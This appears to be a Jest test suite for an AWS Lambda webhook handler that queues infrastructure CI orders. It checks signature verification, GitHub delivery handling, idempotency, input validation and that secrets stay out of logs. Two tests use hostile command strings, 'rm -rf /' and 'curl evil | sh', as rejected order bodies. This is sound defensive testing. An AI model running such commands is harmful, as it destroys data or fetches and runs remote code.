import { randomUUID } from "node:crypto";
import { InvokeCommand, LambdaClient } from "@aws-sdk/client-lambda";
import { SSMClient } from "@aws-sdk/client-ssm";
import {
  EVENT_TYPE,
  FUNCTION_ENV,
  ORDER_NAME_INDEX,
  ORDER_STATUS,
  payloadKey,
  RUN_LIMITS,
  TABLE_KEYS,
  WEBHOOK_LIMITS,
} from "../../../lambdas/iac-ci/contract";
import { handler, orderIdFor } from "../../../lambdas/iac-ci/process_webhook";
import { type GitHubPayload, githubDelivery, githubExample, githubExamples } from "../support/github";
import { getOrderEvent, jsonBody, signatureOf, webhookEvent } from "./support/http";
import {
  captureLogs,
  countItems,
  createPlatform,
  GIT_ORDER,
  objectEtag,
  PLATFORM_SETUP_MS,
  type Platform,
  readEvents,
  readObject,
  readOrder,
} from "./support/platform";

let p: Platform;
let logs: ReturnType<typeof captureLogs>;
let invokeSpy: jest.SpyInstance;

const order = (extra: Record<string, unknown> = {}) => ({
  order_name: "infra/network",
  commands: ["terraform init", "terraform plan"],
  ...extra,
});

/** Orchestrator invocations the handler sent (the emulator accepted them; nothing runs). */
const invocations = () =>
  invokeSpy.mock.calls
    .map(([command]) => command)
    .filter((command): command is InvokeCommand => command instanceof InvokeCommand)
    .map((command) => ({
      functionName: command.input.FunctionName,
      type: command.input.InvocationType,
      payload: JSON.parse(Buffer.from(command.input.Payload as Uint8Array).toString("utf8")),
    }));

/** Everything the handler could write, to compare before and after a refused request. */
async function snapshot() {
  return {
    orders: await countItems(p.ordersTable),
    events: await countItems(p.eventsTable),
    invocations: invocations().length,
  };
}

async function expectNothingWritten(before: Awaited<ReturnType<typeof snapshot>>, deliveryId: string) {
  expect(await snapshot()).toEqual(before);
  const orderId = orderIdFor(deliveryId);
  expect(await readOrder(p, orderId)).toBeUndefined();
  expect(await readObject(p.internalBucket, payloadKey(orderId))).toBeUndefined();
}

beforeAll(async () => {
  p = await createPlatform("webhook");
  logs = captureLogs();
  invokeSpy = jest.spyOn(LambdaClient.prototype, "send");
}, PLATFORM_SETUP_MS);

afterAll(() => {
  logs.restore();
  invokeSpy.mockRestore();
});

describe("POST /webhook: accepted orders", () => {
  test("stores the order, its received event and payload, invokes the orchestrator, answers 202", async () => {
    const deliveryId = randomUUID();
    const before = invocations().length;
    const res = await handler(webhookEvent(order(), { secret: p.secret, deliveryId }));

    expect(res.statusCode).toBe(202);
    const body = jsonBody(res);
    const orderId = orderIdFor(deliveryId);
    expect(body).toMatchObject({ order_id: orderId, status: ORDER_STATUS.queued, duplicate: false });
    expect(orderId).toMatch(/^o-[0-9a-f]{32}$/);

    const item = await readOrder(p, orderId);
    expect(item).toMatchObject({
      [TABLE_KEYS.orders.partitionKey]: orderId,
      order_name: "infra/network",
      status: ORDER_STATUS.queued,
      runner: "lambda",
      timeout_seconds: RUN_LIMITS.lambda.defaultTimeoutSeconds,
      command_count: 2,
      delivery_id: deliveryId,
      payload_key: payloadKey(orderId),
    });
    expect(typeof item?.[TABLE_KEYS.ttlAttribute]).toBe("number");

    const events = await readEvents(p, orderId);
    expect(events).toHaveLength(1);
    const [received] = events;
    expect(received).toMatchObject({ type: EVENT_TYPE.received, status: ORDER_STATUS.queued });
    expect(received[ORDER_NAME_INDEX.partitionKey]).toBe("infra/network");
    expect(typeof received[ORDER_NAME_INDEX.sortKey]).toBe("number");
    expect(typeof received[TABLE_KEYS.ttlAttribute]).toBe("number");
    expect(String(received[TABLE_KEYS.orderEvents.sortKey])).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z#received$/);

    const payload = JSON.parse((await readObject(p.internalBucket, payloadKey(orderId))) ?? "null");
    expect(payload).toMatchObject({
      order_id: orderId,
      order_name: "infra/network",
      commands: ["terraform init", "terraform plan"],
      runner: "lambda",
      timeout_seconds: RUN_LIMITS.lambda.defaultTimeoutSeconds,
    });

    expect(invocations().slice(before)).toEqual([
      { functionName: p.orchestratorFunction, type: "Event", payload: { type: "order", orderId } },
    ]);
  });

  test("verifies the signature over the decoded bytes of a base64-encoded body", async () => {
    const deliveryId = randomUUID();
    const res = await handler(
      webhookEvent(order({ runner: "codebuild", timeout_seconds: 3600 }), {
        secret: p.secret,
        deliveryId,
        base64: true,
      }),
    );
    expect(res.statusCode).toBe(202);
    expect(await readOrder(p, orderIdFor(deliveryId))).toMatchObject({ runner: "codebuild", timeout_seconds: 3600 });
  });

  test("accepts Idempotency-Key in place of X-GitHub-Delivery", async () => {
    const key = `ci-job-${randomUUID()}`;
    const res = await handler(
      webhookEvent(order(), { secret: p.secret, deliveryId: null, headers: { "idempotency-key": key } }),
    );
    expect(res.statusCode).toBe(202);
    expect(jsonBody(res).order_id).toBe(orderIdFor(key));
    expect(await readOrder(p, orderIdFor(key))).toMatchObject({ delivery_id: key });
  });

  test("a redelivery answers the same order and writes nothing new", async () => {
    const deliveryId = randomUUID();
    const first = await handler(webhookEvent(order(), { secret: p.secret, deliveryId }));
    expect(first.statusCode).toBe(202);
    const orderId = orderIdFor(deliveryId);
    const itemBefore = await readOrder(p, orderId);
    const eventsBefore = await readEvents(p, orderId);
    const etagBefore = await objectEtag(p.internalBucket, payloadKey(orderId));
    const counts = { orders: await countItems(p.ordersTable), events: await countItems(p.eventsTable) };
    const invokedBefore = invocations().length;

    const again = await handler(webhookEvent(order(), { secret: p.secret, deliveryId }));

    expect(again.statusCode).toBe(202);
    expect(jsonBody(again)).toMatchObject({ order_id: orderId, status: ORDER_STATUS.queued, duplicate: true });
    expect(await readOrder(p, orderId)).toEqual(itemBefore);
    expect(await readEvents(p, orderId)).toEqual(eventsBefore);
    expect(await objectEtag(p.internalBucket, payloadKey(orderId))).toBe(etagBefore);
    expect({ orders: await countItems(p.ordersTable), events: await countItems(p.eventsTable) }).toEqual(counts);
    // A still-queued order is handed to the orchestrator again (a no-op there if it already has it).
    expect(invocations().slice(invokedBefore)).toEqual([
      { functionName: p.orchestratorFunction, type: "Event", payload: { type: "order", orderId } },
    ]);
  });

  test("the same delivery id with another body is a conflict (409) and changes nothing", async () => {
    const deliveryId = randomUUID();
    expect((await handler(webhookEvent(order(), { secret: p.secret, deliveryId }))).statusCode).toBe(202);
    const orderId = orderIdFor(deliveryId);
    const payloadBefore = await readObject(p.internalBucket, payloadKey(orderId));
    const before = await snapshot();

    const res = await handler(webhookEvent(order({ commands: ["rm -rf /"] }), { secret: p.secret, deliveryId }));

    expect(res.statusCode).toBe(409);
    expect(jsonBody(res)).toMatchObject({ error: "conflict", order_id: orderId });
    expect(await snapshot()).toEqual(before);
    expect(await readObject(p.internalBucket, payloadKey(orderId))).toBe(payloadBefore);
  });

  test("an order stored while the orchestrator cannot be reached answers 503; a redelivery schedules it", async () => {
    const deliveryId = randomUUID();
    const orderId = orderIdFor(deliveryId);
    const saved = process.env[FUNCTION_ENV.orchestratorFunction];
    delete process.env[FUNCTION_ENV.orchestratorFunction];
    try {
      const res = await handler(webhookEvent(order(), { secret: p.secret, deliveryId }));
      expect(res.statusCode).toBe(503);
      expect(jsonBody(res)).toMatchObject({ error: "orchestrator_unavailable", order_id: orderId });
    } finally {
      process.env[FUNCTION_ENV.orchestratorFunction] = saved;
    }
    expect(await readOrder(p, orderId)).toMatchObject({ status: ORDER_STATUS.queued });
    const invokedBefore = invocations().length;

    const again = await handler(webhookEvent(order(), { secret: p.secret, deliveryId }));
    expect(again.statusCode).toBe(202);
    expect(invocations().slice(invokedBefore)).toEqual([
      { functionName: p.orchestratorFunction, type: "Event", payload: { type: "order", orderId } },
    ]);
  });

  test("answers GitHub's ping without creating an order", async () => {
    const before = await snapshot();
    const ping = fromGitHub(githubDelivery("ping", githubExamples("ping")[0], p.secret));
    const res = await handler(ping.event);
    expect(res.statusCode).toBe(200);
    expect(jsonBody(res)).toEqual({ message: "pong" });
    await expectNothingWritten(before, ping.deliveryId);
  });
});

/** A GitHub delivery as API Gateway hands it to the function. */
function fromGitHub(delivery: ReturnType<typeof githubDelivery>) {
  return {
    deliveryId: delivery.deliveryId,
    event: webhookEvent(delivery.body, {
      signature: delivery.headers["x-hub-signature-256"],
      deliveryId: delivery.deliveryId,
      headers: delivery.headers,
    }),
  };
}

describe("POST /webhook: GitHub deliveries", () => {
  const branchPush = githubExample("push", (e) => e.ref === "refs/heads/master" && !e.deleted, "to master");

  test("a push becomes an order for the pushed commit, with its source stored and shown", async () => {
    const before = invocations().length;
    const push = fromGitHub(githubDelivery("push", branchPush, p.secret));
    const res = await handler(push.event);

    expect(res.statusCode).toBe(202);
    const orderId = orderIdFor(push.deliveryId);
    const source = {
      event: "push",
      repository: "Codertocat/Hello-World",
      ref: "refs/heads/master",
      sha: branchPush.after,
      clone_url: "https://github.com/Codertocat/Hello-World.git",
    };
    expect(jsonBody(res)).toEqual({
      order_id: orderId,
      status: ORDER_STATUS.queued,
      duplicate: false,
      status_url: `/orders/${orderId}`,
      source,
    });
    expect(await readOrder(p, orderId)).toMatchObject({
      order_name: "Codertocat/Hello-World:refs/heads/master",
      runner: GIT_ORDER.runner,
      timeout_seconds: GIT_ORDER.timeout_seconds,
      command_count: GIT_ORDER.commands.length,
      delivery_id: push.deliveryId,
      source,
    });
    expect(JSON.parse((await readObject(p.internalBucket, payloadKey(orderId))) ?? "{}")).toMatchObject({
      commands: GIT_ORDER.commands,
      source,
    });
    expect(invocations().slice(before)).toEqual([
      { functionName: p.orchestratorFunction, type: "Event", payload: { type: "order", orderId } },
    ]);
    const read = jsonBody(await handler(getOrderEvent(orderId))) as { order: Record<string, unknown> };
    expect(read.order.source).toEqual(source);
  });

  test("GitHub's redelivery (same GUID, same body) answers the same order and writes nothing new", async () => {
    const first = githubDelivery("push", branchPush, p.secret);
    await handler(fromGitHub(first).event);
    const orderId = orderIdFor(first.deliveryId);
    const before = await snapshot();
    const res = await handler(fromGitHub(githubDelivery("push", branchPush, p.secret, first.deliveryId)).event);
    expect(res.statusCode).toBe(202);
    expect(jsonBody(res)).toMatchObject({ order_id: orderId, duplicate: true });
    expect(await countItems(p.ordersTable)).toBe(before.orders);
    expect(await countItems(p.eventsTable)).toBe(before.events);
  });

  test.each([
    "opened",
    "synchronize",
    "reopened",
  ])("a pull_request %s becomes an order for the head commit", async (action) => {
    const payload = githubExample("pull_request", (e) => e.action === action, action);
    const pr = fromGitHub(githubDelivery("pull_request", payload, p.secret));
    const res = await handler(pr.event);
    expect(res.statusCode).toBe(202);
    expect(await readOrder(p, orderIdFor(pr.deliveryId))).toMatchObject({
      order_name: "Codertocat/Hello-World:pull/2",
      source: { event: "pull_request", sha: payload.pull_request.head.sha, ref: "refs/pull/2/head", action },
    });
  });

  test.each([
    ["pull_request", (e: GitHubPayload) => e.action === "closed", "pull_request action closed changes no code"],
    ["push", (e: GitHubPayload) => e.deleted === true, "push deleted refs/tags/simple-tag: there is no commit to run"],
    ["issues", () => true, "issues events start no run"],
    ["release", () => true, "release events start no run"],
  ])("a %s delivery that starts nothing answers 202 with the reason and writes nothing", async (name, match, reason) => {
    const before = await snapshot();
    const delivery = fromGitHub(githubDelivery(name, githubExample(name, match, "to ignore"), p.secret));
    const res = await handler(delivery.event);
    expect(res.statusCode).toBe(202);
    expect(jsonBody(res)).toEqual({ ignored: true, event: name, reason: expect.stringContaining(reason) });
    await expectNothingWritten(before, delivery.deliveryId);
  });

  test("a delivery signed with another secret is 401 and writes nothing", async () => {
    const before = await snapshot();
    const push = fromGitHub(githubDelivery("push", branchPush, "another-webhook-secret"));
    expect((await handler(push.event)).statusCode).toBe(401);
    await expectNothingWritten(before, push.deliveryId);
  });

  test("a webhook set to send form-encoded payloads is told to send JSON", async () => {
    const delivery = githubDelivery("push", branchPush, p.secret);
    const form = Buffer.from(`payload=${encodeURIComponent(delivery.body.toString("utf8"))}`);
    const res = await handler(
      webhookEvent(form, {
        secret: p.secret,
        deliveryId: delivery.deliveryId,
        contentType: "application/x-www-form-urlencoded",
        headers: { "x-github-event": "push" },
      }),
    );
    expect(res.statusCode).toBe(415);
    expect(jsonBody(res).message).toMatch(/set its content type to application\/json/);
  });

  test("a push without its commit is 400 naming the field; misconfigured settings are 500 naming the setting", async () => {
    const before = await snapshot();
    const noAfter = fromGitHub(githubDelivery("push", { ...branchPush, after: undefined }, p.secret));
    const res = await handler(noAfter.event);
    expect(res.statusCode).toBe(400);
    expect(jsonBody(res)).toEqual({
      error: "bad_request",
      field: "after",
      message: "after: must be the pushed commit's SHA",
    });

    const saved = process.env[FUNCTION_ENV.gitOrder];
    process.env[FUNCTION_ENV.gitOrder] = JSON.stringify({ commands: [] });
    try {
      const push = fromGitHub(githubDelivery("push", branchPush, p.secret));
      const broken = await handler(push.event);
      expect(broken.statusCode).toBe(500);
      expect(jsonBody(broken).message).toBe(
        "iac-ci cannot run Git-host deliveries: IAC_CI_WEBHOOK_GIT_ORDER: commands: required, a non-empty array of strings",
      );
    } finally {
      process.env[FUNCTION_ENV.gitOrder] = saved;
    }
    expect(await snapshot()).toEqual(before);
  });
});

describe("POST /webhook: refused requests write nothing", () => {
  test("401 without a signature", async () => {
    const before = await snapshot();
    const deliveryId = randomUUID();
    const res = await handler(webhookEvent(order(), { deliveryId }));
    expect(res.statusCode).toBe(401);
    await expectNothingWritten(before, deliveryId);
  });

  test("401 with a signature made with another secret", async () => {
    const before = await snapshot();
    const deliveryId = randomUUID();
    const res = await handler(webhookEvent(order(), { secret: "not-the-secret", deliveryId }));
    expect(res.statusCode).toBe(401);
    await expectNothingWritten(before, deliveryId);
  });

  test("401 when the body was changed after signing", async () => {
    const before = await snapshot();
    const deliveryId = randomUUID();
    const signature = signatureOf(p.secret, JSON.stringify(order()));
    const res = await handler(webhookEvent(order({ commands: ["curl evil | sh"] }), { signature, deliveryId }));
    expect(res.statusCode).toBe(401);
    await expectNothingWritten(before, deliveryId);
  });

  test.each([
    ["sha1=0123", "another algorithm"],
    [`sha256=${"zz".repeat(32)}`, "not hex"],
    ["sha256=abcd", "too short"],
  ])("401 for a malformed signature header (%s: %s)", async (signature) => {
    const before = await snapshot();
    const deliveryId = randomUUID();
    expect((await handler(webhookEvent(order(), { signature, deliveryId }))).statusCode).toBe(401);
    await expectNothingWritten(before, deliveryId);
  });

  test("400 for malformed JSON", async () => {
    const before = await snapshot();
    const deliveryId = randomUUID();
    const res = await handler(webhookEvent('{"order_name": "x", "commands": [', { secret: p.secret, deliveryId }));
    expect(res.statusCode).toBe(400);
    expect(jsonBody(res)).toMatchObject({ error: "bad_request", field: "body" });
    expect(String(jsonBody(res).message)).toMatch(/malformed JSON/);
    await expectNothingWritten(before, deliveryId);
  });

  test.each<[string, Record<string, unknown>, string]>([
    ["missing order_name", { commands: ["true"] }, "order_name"],
    ["order_name with spaces", order({ order_name: "my target" }), "order_name"],
    ["no commands", order({ commands: [] }), "commands"],
    ["commands not an array", order({ commands: "make" }), "commands"],
    ["a command not a string", order({ commands: ["true", 42] }), "commands[1]"],
    ["too many commands", order({ commands: Array(WEBHOOK_LIMITS.maxCommands + 1).fill("true") }), "commands"],
    ["a command too long", order({ commands: ["x".repeat(WEBHOOK_LIMITS.maxCommandLength + 1)] }), "commands[0]"],
    ["unknown runner", order({ runner: "docker" }), "runner"],
    ["fractional timeout", order({ timeout_seconds: 1.5 }), "timeout_seconds"],
    [
      "lambda timeout above the worker's budget",
      order({ timeout_seconds: RUN_LIMITS.lambda.maxTimeoutSeconds + 1 }),
      "timeout_seconds",
    ],
    [
      "codebuild timeout above its limit",
      order({ runner: "codebuild", timeout_seconds: RUN_LIMITS.codebuild.maxTimeoutSeconds + 1 }),
      "timeout_seconds",
    ],
    ["misspelt field", order({ timeout: 30 }), "timeout"],
  ])("400 naming the field: %s", async (_, body, field) => {
    const before = await snapshot();
    const deliveryId = randomUUID();
    const res = await handler(webhookEvent(body, { secret: p.secret, deliveryId }));
    expect(res.statusCode).toBe(400);
    expect(jsonBody(res)).toMatchObject({ error: "bad_request", field });
    expect(String(jsonBody(res).message)).toContain(field);
    await expectNothingWritten(before, deliveryId);
  });

  test("400 for a JSON body that is not an object", async () => {
    const before = await snapshot();
    const deliveryId = randomUUID();
    const res = await handler(webhookEvent("[1,2]", { secret: p.secret, deliveryId }));
    expect(res.statusCode).toBe(400);
    expect(jsonBody(res)).toMatchObject({ field: "body" });
    await expectNothingWritten(before, deliveryId);
  });

  test("400 naming the header when there is no delivery id", async () => {
    const before = await snapshot();
    const res = await handler(webhookEvent(order(), { secret: p.secret, deliveryId: null }));
    expect(res.statusCode).toBe(400);
    expect(jsonBody(res)).toMatchObject({ field: "X-GitHub-Delivery" });
    expect(await snapshot()).toEqual(before);
  });

  test.each(["text/plain", "application/x-www-form-urlencoded"])("415 for content type %s", async (contentType) => {
    const before = await snapshot();
    const deliveryId = randomUUID();
    const res = await handler(webhookEvent(order(), { secret: p.secret, deliveryId, contentType }));
    expect(res.statusCode).toBe(415);
    await expectNothingWritten(before, deliveryId);
  });

  test("415 without a content type; a charset parameter is fine", async () => {
    const deliveryId = randomUUID();
    const none = await handler(webhookEvent(order(), { secret: p.secret, deliveryId, contentType: null }));
    expect(none.statusCode).toBe(415);
    const withCharset = await handler(
      webhookEvent(order(), { secret: p.secret, deliveryId, contentType: "application/json; charset=utf-8" }),
    );
    expect(withCharset.statusCode).toBe(202);
  });

  test("413 for a body over the limit, even a signed one", async () => {
    const before = await snapshot();
    const deliveryId = randomUUID();
    const big = JSON.stringify(order({ padding: "x".repeat(WEBHOOK_LIMITS.maxBodyBytes) }));
    const res = await handler(webhookEvent(big, { secret: p.secret, deliveryId }));
    expect(res.statusCode).toBe(413);
    await expectNothingWritten(before, deliveryId);
  });

  test("404 for an unknown route", async () => {
    const event = { ...webhookEvent(order(), { secret: p.secret }), rawPath: "/admin" };
    event.requestContext = { ...event.requestContext, http: { ...event.requestContext.http, path: "/admin" } };
    expect((await handler(event)).statusCode).toBe(404);
  });
});

describe("GET /orders/{id}", () => {
  test("200 with the order and its events", async () => {
    const deliveryId = randomUUID();
    await handler(webhookEvent(order({ order_name: "apps/web" }), { secret: p.secret, deliveryId }));
    const orderId = orderIdFor(deliveryId);

    const res = await handler(getOrderEvent(orderId));

    expect(res.statusCode).toBe(200);
    const body = jsonBody(res) as { order: Record<string, unknown>; events: Record<string, unknown>[] };
    expect(body.order).toMatchObject({ order_id: orderId, order_name: "apps/web", status: ORDER_STATUS.queued });
    expect(body.order).not.toHaveProperty("body_sha256");
    expect(body.events.map((e) => e.type)).toEqual([EVENT_TYPE.received]);
  });

  test("is not served through the function URL (no IAM authorization there)", async () => {
    const deliveryId = randomUUID();
    await handler(webhookEvent(order(), { secret: p.secret, deliveryId }));
    const viaApi = getOrderEvent(orderIdFor(deliveryId));
    expect((await handler(viaApi)).statusCode).toBe(200);
    // A function URL delivers the same payload shape with the catch-all route key.
    const viaUrl = { ...viaApi, routeKey: "$default", pathParameters: undefined };
    viaUrl.requestContext = { ...viaUrl.requestContext, routeKey: "$default" };
    expect((await handler(viaUrl)).statusCode).toBe(404);
  });

  test("404 for an unknown or malformed id", async () => {
    expect((await handler(getOrderEvent(orderIdFor(randomUUID())))).statusCode).toBe(404);
    expect((await handler(getOrderEvent("not-an-order"))).statusCode).toBe(404);
    expect((await handler(getOrderEvent("%E0%A4%A"))).statusCode).toBe(404);
  });
});

describe("the secret", () => {
  test("is read from SSM once per container", async () => {
    const ssmSpy = jest.spyOn(SSMClient.prototype, "send");
    try {
      expect((await handler(webhookEvent(order(), { secret: p.secret }))).statusCode).toBe(202);
      expect((await handler(webhookEvent(order(), { secret: "wrong" }))).statusCode).toBe(401);
      expect((await handler(webhookEvent(order(), { secret: p.secret }))).statusCode).toBe(202);
      // At most one read (none when earlier tests of this file already filled the cache).
      expect(ssmSpy.mock.calls.length).toBeLessThanOrEqual(1);
    } finally {
      ssmSpy.mockRestore();
    }
  });

  test("never appears in the logs, nor does any signature", () => {
    expect(logs.lines.length).toBeGreaterThan(10);
    for (const line of logs.lines) {
      expect(line).not.toContain(p.secret);
      expect(line).not.toMatch(/sha256=[0-9a-f]{64}/);
      expect(() => JSON.parse(line)).not.toThrow();
    }
    expect(logs.lines.some((l) => JSON.parse(l).msg === "signature rejected")).toBe(true);
  });
});
